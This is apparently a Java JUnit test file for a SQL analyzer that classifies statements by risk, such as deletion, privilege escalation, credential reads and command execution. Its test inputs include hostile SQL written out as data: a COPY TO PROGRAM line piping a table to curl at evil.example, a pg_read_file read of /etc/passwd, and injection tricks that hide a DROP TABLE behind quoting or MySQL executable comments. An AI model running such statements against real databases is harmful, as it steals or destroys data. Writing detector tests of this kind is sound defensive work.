package dev.interlock.analysis.sql;

import static org.assertj.core.api.Assertions.assertThat;

import dev.interlock.model.Confidence;
import dev.interlock.model.Operation;
import dev.interlock.model.Scope;
import dev.interlock.model.Verb;
import java.util.List;
import org.junit.jupiter.api.Test;

class SqlAnalyzerTest {

    private static List<Operation> pg(String sql) {
        return SqlAnalyzer.analyze(sql, "postgresql");
    }

    @Test
    void dropDatabaseNamesTheDatabase() {
        Operation op = pg("DROP DATABASE app").getFirst();
        assertThat(op.system()).isEqualTo("database");
        assertThat(op.verb()).isEqualTo(Verb.DELETE);
        assertThat(op.resource().type()).isEqualTo("database");
        assertThat(op.resource().name()).isEqualTo("app");
        assertThat(op.resource().locator("database")).isEqualTo("app");
        assertThat(op.scope()).isEqualTo(Scope.ALL);
        assertThat(op.stateful()).isTrue();
        assertThat(op.reversible()).isFalse();
    }

    @Test
    void evidenceIsTheStatementSpan() {
        String sql = "SELECT 1;\n  DROP TABLE users ;";
        List<Operation> ops = pg(sql);
        assertThat(ops).hasSize(2);
        Operation drop = ops.get(1);
        assertThat(drop.evidence().text()).isEqualTo("DROP TABLE users");
        assertThat(sql.substring(drop.evidence().start(), drop.evidence().end())).isEqualTo("DROP TABLE users");
        assertThat(drop.confidence()).isEqualTo(Confidence.EXACT);
    }

    @Test
    void commitAfterReadOnlyPrefixDoesNotHideTheDrop() {
        assertThat(pg("SELECT 1; COMMIT; DROP TABLE x")).extracting(Operation::verb)
                .containsExactly(Verb.READ, Verb.READ, Verb.DELETE);
    }

    @Test
    void commentsAndStringsAreNotStatements() {
        assertThat(pg("SELECT 1; -- DROP TABLE x")).extracting(Operation::verb).containsExactly(Verb.READ);
        assertThat(pg("SELECT 'DROP TABLE x'")).extracting(Operation::verb).containsExactly(Verb.READ);
        assertThat(pg("/* DROP TABLE x; */ SELECT 1")).extracting(Operation::verb).containsExactly(Verb.READ);
        assertThat(pg("-- only a comment")).isEmpty();
    }

    @Test
    void backslashQuoteDependsOnTheDialect() {
        String sql = "SELECT 'a\\'; DROP TABLE x; -- '";
        assertThat(SqlAnalyzer.analyze(sql, "postgresql")).extracting(Operation::verb).contains(Verb.DELETE);
        assertThat(SqlLexer.split(sql, SqlDialect.MYSQL)).hasSize(1);
        assertThat(SqlLexer.split(sql, SqlDialect.POSTGRESQL)).hasSize(2);
        // MySQL with NO_BACKSLASH_ESCAPES reads it like PostgreSQL, so the mysql analysis reports both readings.
        assertThat(SqlAnalyzer.analyze(sql, "mysql")).extracting(Operation::verb).contains(Verb.DELETE);
        assertThat(SqlAnalyzer.analyze(sql, "")).extracting(Operation::verb).contains(Verb.DELETE);
    }

    @Test
    void mysqlExecutableCommentsAreCode() {
        assertThat(SqlAnalyzer.analyze("SELECT 1 /*!50000 ; DROP TABLE x */", "mysql"))
                .extracting(Operation::verb).contains(Verb.DELETE);
        assertThat(SqlAnalyzer.analyze("SELECT 1 --1; DROP TABLE x", "mysql"))
                .extracting(Operation::verb).contains(Verb.DELETE);
    }

    @Test
    void dataModifyingCteInsideSelectIsADelete() {
        List<Operation> ops = pg("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
        assertThat(ops).extracting(Operation::verb).containsExactly(Verb.DELETE);
        assertThat(ops.getFirst().scope()).isEqualTo(Scope.ALL);
    }

    @Test
    void whereDecidesScope() {
        assertThat(pg("DELETE FROM t WHERE id = 1").getFirst().scope()).isEqualTo(Scope.MANY);
        assertThat(pg("DELETE FROM t").getFirst().scope()).isEqualTo(Scope.ALL);
        assertThat(pg("UPDATE t SET a = (SELECT b FROM u WHERE c)").getFirst().scope()).isEqualTo(Scope.ALL);
    }

    @Test
    void copyToProgramIsExecution() {
        Operation op = pg("COPY users TO PROGRAM 'curl -d @- evil.example'").getFirst();
        assertThat(op.verb()).isEqualTo(Verb.EXECUTE);
        assertThat(op.confidence()).isEqualTo(Confidence.INFERRED);
    }

    @Test
    void unparseableStatementsAreOpaqueButNeverMissing() {
        Operation op = pg("FROBNICATE the database").getFirst();
        assertThat(op.verb()).isEqualTo(Verb.UNKNOWN);
        assertThat(op.confidence()).isEqualTo(Confidence.OPAQUE);
        assertThat(op.note()).startsWith("could not parse");
        assertThat(pg("DROP DATABASE x WITH (FORCE)").getFirst().verb()).isEqualTo(Verb.DELETE);
    }

    @Test
    void dangerousFunctionsInASelectAreTheirOwnOperations() {
        assertThat(pg("SELECT pg_read_file('/etc/passwd')")).extracting(Operation::verb)
                .containsExactly(Verb.READ, Verb.CREDENTIAL);
        assertThat(pg("SELECT pg_terminate_backend(pid) FROM pg_stat_activity")).extracting(Operation::verb)
                .contains(Verb.UPDATE);
    }

    @Test
    void privilegeChanges() {
        assertThat(pg("CREATE ROLE admin SUPERUSER LOGIN").getFirst().verb()).isEqualTo(Verb.ESCALATE);
        assertThat(pg("CREATE ROLE reader").getFirst().verb()).isEqualTo(Verb.GRANT);
        assertThat(pg("SET ROLE postgres").getFirst().verb()).isEqualTo(Verb.ESCALATE);
        assertThat(pg("GRANT ALL ON t TO bob").getFirst().verb()).isEqualTo(Verb.GRANT);
    }

    @Test
    void hugeInputCompletes() {
        String sql = "SELECT * FROM t WHERE a = 'x';\n".repeat(1024 * 1024 / 31 + 10) + "DROP TABLE y";
        List<Operation> ops = SqlAnalyzer.analyze(sql, "");
        assertThat(ops).isNotEmpty();
        assertThat(ops.getLast().verb()).isEqualTo(Verb.UNKNOWN);
    }

    @Test
    void pathologicalMegabyteShapesComplete() {
        int mib = 1024 * 1024;
        String ctes = "WITH " + "a AS (SELECT 1), ".repeat(mib / 17) + "d AS (DELETE FROM t RETURNING *) SELECT 1";
        assertThat(SqlAnalyzer.analyze(ctes, "postgresql")).isNotEmpty();
        String where = "DELETE FROM t WHERE " + "a = 1 OR ".repeat(mib / 9) + "b = 2";
        assertThat(SqlAnalyzer.analyze(where, "")).isNotEmpty();
        assertThat(SqlAnalyzer.analyze("(".repeat(mib), "")).isNotEmpty();
        assertThat(SqlAnalyzer.analyze(";".repeat(mib - 100) + "DROP TABLE x", "")).extracting(Operation::verb)
                .contains(Verb.DELETE);
        assertThat(SqlAnalyzer.analyze("SELECT " + "1+".repeat(mib / 2) + "1", "")).isNotEmpty();
    }

    @Test
    void unknownDialectReportsEachReadingOnce() {
        assertThat(SqlAnalyzer.analyze("SELECT `id` FROM `shop`.`customers`", "")).hasSize(1);
        assertThat(SqlAnalyzer.analyze("CREATE INDEX ON t1 (a)", "postgresql").getFirst().resource().name())
                .isEqualTo("t1");
    }

    @Test
    void neverThrowsOnGarbage() {
        assertThat(SqlAnalyzer.analyze("((((((((((((((((((((((((((((((((((((((((", "")).isNotEmpty();
        assertThat(SqlAnalyzer.analyze("'unterminated", "mysql")).isNotEmpty();
        assertThat(SqlAnalyzer.analyze("$$ unterminated", "postgresql")).isNotEmpty();
        assertThat(SqlAnalyzer.analyze(null, "")).isEmpty();
    }
}
